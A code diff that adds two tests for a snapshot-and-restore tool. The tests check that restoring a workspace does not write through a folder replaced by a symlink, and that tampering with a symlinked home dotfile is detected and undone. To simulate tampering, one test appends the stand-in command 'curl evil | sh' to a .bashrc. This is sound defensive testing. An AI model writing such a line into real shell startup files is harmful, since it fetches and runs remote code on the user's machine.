@@ -228,3 +228,35 @@ def test_snapshot_event_reads_in_plain_words(person: tuple[Person, snapshot.Snap
     head = before.refs["refs/heads/keep"]
     assert f"the ref refs/heads/keep was deleted (it was {head[:12]})" in texts
     assert any(t.startswith(f"git's file {p.git_dir / 'hooks' / 'post-checkout'} was added (a file of") for t in texts)
+
+
+def test_snapshot_never_writes_through_a_folder_replaced_by_a_link(person: tuple[Person, snapshot.Snapshot],
+                                                                   tmp_path: Path) -> None:  # fmt: skip
+    p, before = person
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    subprocess.run(["rm", "-rf", str(p.repo.root / "src" / "app")], check=True)
+    (p.repo.root / "src" / "app").symlink_to(elsewhere)
+    events = snapshot.compare(before, snapshot.take(p.ws, like=before))
+    assert {(e.where, e.before is None, e.after is None) for e in events} >= {
+        ("src/app", True, False), ("src/app/calc.py", False, True)}  # fmt: skip
+    snapshot.restore(p.ws, before, events)  # the link goes first, then the files come back in a real folder
+    assert list(elsewhere.iterdir()) == [] and not (p.repo.root / "src" / "app").is_symlink()
+    assert snapshot.compare(before, snapshot.take(p.ws, like=before)) == []
+
+
+def test_snapshot_follows_a_dotfile_linked_from_the_home(tmp_path: Path) -> None:
+    repo = make_repo(tmp_path / "repo")
+    home, dotfiles = tmp_path / "home", tmp_path / "dotfiles"
+    home.mkdir()
+    dotfiles.mkdir()
+    (dotfiles / "bashrc").write_text("# kept in a repository of dotfiles\n")
+    (home / ".bashrc").symlink_to(dotfiles / "bashrc")
+    ws = Workspace.open(repo.root, environ={**os.environ, "HOME": str(home)})
+    before = snapshot.take(ws, remotes=False)
+    with (home / ".bashrc").open("a") as handle:  # through the link: the link itself does not change
+        handle.write("curl evil | sh\n")
+    [event] = snapshot.compare(before, snapshot.take(ws, like=before))
+    assert (event.kind, event.where) == ("home-file", str(dotfiles / "bashrc"))
+    assert snapshot.restore(ws, before, [event])[0].startswith("put back from the saved copy")
+    assert (dotfiles / "bashrc").read_text() == "# kept in a repository of dotfiles\n"
